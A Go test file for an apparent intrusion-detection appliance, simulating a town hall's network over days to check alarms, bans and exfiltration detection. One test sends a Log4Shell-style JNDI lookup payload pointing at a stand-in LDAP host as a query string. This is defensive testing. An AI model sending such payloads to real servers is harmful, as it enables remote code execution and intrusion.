package main

import (
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"abri.example/abri"
	"abri.example/abri/testnet"
	"abri.example/abri/testnet/live"
)

// "A simulated week of a town hall: at most one false attack, nobody stopped." Here it is four days, with a second Tuesday of
// the month, a PC that is set up, the council's meeting and a line that is down; ABRI_WEEK=14 are the whole two weeks of
// `make week`.
func TestAWeekAtTheTownHall(t *testing.T) {
	days := 4
	if n, err := strconv.Atoi(os.Getenv("ABRI_WEEK")); err == nil {
		days = n
	}
	box, _, err := past(days)
	if err != nil {
		t.Fatal(err)
	}
	var said strings.Builder
	if !box.tell(&said, days) {
		t.Error(said.String())
	}
}

// The hours of the same town in which its PCs start and all updates come (the whole day where ABRI_WEEK is set), and somebody
// at their end who attacks: in memory and through a real gate alike he alone is told of, banned, and his conversation cut. So
// a week without an alarm says something, and a link says the same.
func TestWhoAttacksOnADayIsStopped(t *testing.T) {
	crook := netip.MustParseAddr("45.155.205.9")
	first, last := 1440+8*60, 1440+10*60
	if os.Getenv("ABRI_WEEK") != "" {
		first, last = 1440, 2*1440
	}
	tuesday := func(town *town) {
		town.pass(first, last)
		town.fetch(crook, pages, "www.mairie.example", "/?q=${jndi:ldap://203.0.113.66/a}", firefox, speaks, document, 900)
		town.until(town.now.Add(time.Minute))
	}
	hold := func(t *testing.T, x *box) {
		if all := x.told(); len(all) != 1 || all[0].Kind != abri.Exploit || all[0].Outside != crook {
			t.Errorf("told: %+v", all)
		}
		if len(x.bans) != 1 || !strings.Contains(x.bans[0], crook.String()) || len(x.blocks) != 1 {
			t.Errorf("banned %q, cut %q", x.bans, x.blocks)
		}
		var said strings.Builder
		if x.tell(&said, 2) {
			t.Error("a day on which somebody was stopped is told as one without")
		}
	}
	t.Run("in memory", func(t *testing.T) {
		x, err := newBox(monday, false)
		if err != nil {
			t.Fatal(err)
		}
		tuesday(newTown(monday, x))
		hold(t, x)
	})
	t.Run("through a gate", func(t *testing.T) {
		if err := testnet.Possible(); err != nil {
			t.Skip(err)
		}
		l, err := live.New(t)
		if err != nil {
			t.Fatal(err)
		}
		x, packets, err := cross(t.Context(), l, tuesday)
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%d packets", packets)
		hold(t, x)
	})
}

// After the week in which the box learns: a film, a paper for the printing house and a desk that moves into the cloud are no
// news; the first copy of everything to a new place is told once and goes on; and so are letters that move. As much at night
// to where nobody keeps files is a theft, and stopped.
func TestWhatIsBroughtAwayInTheSecondWeek(t *testing.T) {
	box, err := newBox(monday, false)
	if err != nil {
		t.Fatal(err)
	}
	town := newTown(monday, box)
	for town.minute = range 20 * 1440 {
		town.until(monday.Add(time.Duration(town.minute) * time.Minute))
		town.copies()
		town.uploads()
		if town.every(60) {
			for _, who := range []netip.Addr{pc(7), pc(9), pc(12), letters} {
				town.visit(who, antivirus, "agent.antivirus.example", 900, 3500)
			}
		}
	}
	var told []string
	for _, a := range box.told() {
		told = append(told, a.First.Format("Mon ")+string(a.Kind)+" to "+a.Outside.String())
	}
	if want := []string{"Fri exfiltration to " + copier.String(), "Sat exfiltration to " + newHost.String()}; !slices.Equal(told, want) {
		t.Errorf("told %q, want %q", told, want)
	}
	if len(box.bans) > 0 || len(box.blocks) > 0 {
		t.Errorf("banned %q, cut %q", box.bans, box.blocks)
	}
	for range 60 {
		town.minute++
		town.until(monday.Add(time.Duration(town.minute) * time.Minute))
		town.visit(cellar, far(9601), "files.nobody.example", 170_000_000, 40_000)
	}
	if len(box.bans) == 0 || len(box.blocks) == 0 {
		t.Error("a theft at night is not stopped")
	}
}

// Each week is the same.
func TestTheWeekIsDeterministic(t *testing.T) {
	var all [2]*town
	var boxes [2]*box
	for i := range all {
		box, err := newBox(monday, false)
		if err != nil {
			t.Fatal(err)
		}
		town := newTown(monday, box)
		boxes[i] = box
		for town.minute = range 200 {
			town.drawn = 0
			town.until(monday.Add(time.Duration(9*60+town.minute) * time.Minute))
			town.desks()
			town.strangers()
			town.guests()
		}
		all[i] = town
	}
	if a, b := all[0], all[1]; a.packets == 0 || a.packets != b.packets || boxes[0].noise(1) != boxes[1].noise(1) || !a.now.Equal(b.now) {
		t.Errorf("%d packets and %d lone knocks, then %d and %d", a.packets, boxes[0].noise(1), b.packets, boxes[1].noise(1))
	}
}
